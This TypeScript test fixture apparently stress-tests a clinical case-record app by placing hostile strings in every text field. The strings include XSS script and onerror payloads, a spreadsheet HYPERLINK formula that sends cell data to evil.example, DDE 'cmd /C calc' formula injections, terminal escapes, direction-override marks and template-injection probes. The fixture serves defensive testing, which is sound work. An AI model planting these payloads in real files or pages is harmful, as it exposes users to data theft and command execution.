/** A case with something hostile in every place that takes a text: markup, escapes, direction marks, formulas. */
import { adultProtocol } from "../../src/protocol/adult.ts";
import type { Protocol } from "../../src/protocol/protocol.ts";
import { protocolSchema } from "../../src/protocol/protocol-schema.ts";
import type { CaseFile } from "../../src/record/case.ts";
import { caseSchema } from "../../src/record/case-schema.ts";
import { type Entry, entrySchema, type Kind } from "../../src/record/entry.ts";
import { EVERY_KIND, sampleOf } from "../helpers/every-kind.ts";
import { openedCase } from "../helpers/typed-case.ts";

/** Each with the short form that fits where only a few characters are taken. */
export const HOSTILE: readonly (readonly [name: string, long: string, short: string])[] = [
  ["a script", "<script>alert(document.domain)</script>", "<script>"],
  [
    "markup that closes what is open",
    `"></td></table></svg></style><img src=//evil.example/x onerror=alert(1)>`,
    `"><b x='`,
  ],
  ["character references and sections", "&lt;b&gt; &#60;script&#62; ]]> <![CDATA[ --> &bogus;", "&lt;]]>--"],
  ["terminal escapes", "\u001b[2J\u001b]0;owned\u0007\u009b31m\u001b[?1049h", "\u001b[2J\u0007"],
  [
    "control characters",
    "a\u0000b\u0008c\r\nd\u000be\u000cf\u007fg\u0085h\u2028i\ufffej",
    "\u0000\r\n\t\u0008",
  ],
  ["direction marks", "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c", "\u202eabc\u2066"],
  ["a formula", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "=1+1"],
  ["a formula behind a tab", "\t=cmd|' /C calc'!A0", "\t=2+2"],
  ["a plus, a minus, an at", "+1+cmd|' /C calc'!A0", "@SUM(A1)"],
  ["a wide equals sign", "＝1+1", "＝1+1"],
  ["a very long word", "W".repeat(3900), "WWWWWWWWWWWW"],
  ["wide and combined characters", `漢字🫀👩‍⚕️${"e\u0301\u0302\u0303".repeat(40)}`, "漢🫀é"],
  ["half a character", "before \ud83e after \udc00", "\ud83e"],
  ["templates", "{{7*7}} #{7*7} <%= 7*7 %> %24%7B javascript:alert(1)", "{{7*7}}"],
  ["names of an object's own", "constructor", "__proto__"],
  ["quotes and commas", `"",",;'\n"`, `",;'`],
];

/** The case, with one of the hostile texts in every place that takes one. */
export function hostileCase([, long, short]: (typeof HOSTILE)[number]): CaseFile {
  const entries = EVERY_KIND.map(({ kind }, i) => hostileEntry(kind, i + 1, long, short));
  const corrections = EVERY_KIND.slice(1, 8).map((_, i) =>
    amendOf(entries.length + 1 + i, `e${i + 2}`, long),
  );
  const file = {
    ...openedCase(hostileProtocol(long)),
    label: long.slice(0, 80),
    entries: [...entries, ...corrections],
  };
  return caseSchema.parse(file);
}

const amendOf = (seq: number, target: string, reason: string): Entry =>
  sampleOf("void", { target, reason, note: reason, typed: reason }, seq) as Entry;

function hostileEntry(kind: Kind, seq: number, long: string, short: string): Entry {
  const sample = sampleOf(kind, { note: "n", typed: "t" }, seq) as { [field: string]: unknown };
  if (kind === "amend")
    return { ...sample, target: `e${seq - 1}`, changes: { note: long } } as unknown as Entry;
  const fits = (one: object) => entrySchema.safeParse(one).success;
  return replaced(sample, ["id", "at", "loggedAt", "kind", "target"], fits, [
    long,
    long.slice(0, 120),
    short,
  ]) as Entry;
}

/** Every text of an object in turn replaced by the first of the texts with which the whole is still valid. */
function replaced<T>(
  whole: T,
  except: readonly string[],
  fits: (one: T & object) => boolean,
  texts: readonly string[],
): T {
  let now = whole;
  for (const path of pathsOf(whole, except)) {
    const found = texts.map((text) => withAt(now, path, text)).find((one) => fits(one as T & object));
    now = (found ?? now) as T;
  }
  return now;
}

type Path = readonly string[];

function pathsOf(value: unknown, except: readonly string[], path: Path = []): Path[] {
  if (typeof value === "string") return [path];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) =>
    except.includes(key) ? [] : pathsOf(inner, except, [...path, key]),
  );
}

function withAt(value: unknown, [key, ...rest]: Path, text: string): unknown {
  if (key === undefined) return text;
  if (Array.isArray(value)) return value.map((one, i) => (String(i) === key ? withAt(one, rest, text) : one));
  const object = value as { [key: string]: unknown };
  return { ...object, [key]: withAt(object[key], rest, text) };
}

/** The names and sources of the protocol, those that a report may quote. */
function hostileProtocol(long: string): Protocol {
  const text = long.slice(0, 60);
  const named = <T extends { name: string }>(list: readonly T[]): T[] =>
    list.map((one) => ({ ...one, name: text }));
  return protocolSchema.parse({
    ...adultProtocol,
    name: text,
    fluidsIn: named(adultProtocol.fluidsIn),
    fluidsOut: named(adultProtocol.fluidsOut),
    marks: named(adultProtocol.marks),
    drugs: named(adultProtocol.drugs),
    solutions: named(adultProtocol.solutions),
    oxygen: {
      perGram: { value: 1.34, source: long.slice(0, 400) },
      dissolved: { value: 0.003, source: long.slice(0, 400) },
    },
    checklists: adultProtocol.checklists.map((list) => ({
      ...list,
      name: text,
      items: list.items.map((item) => ({ ...item, text: long.slice(0, 200) })),
    })),
  });
}
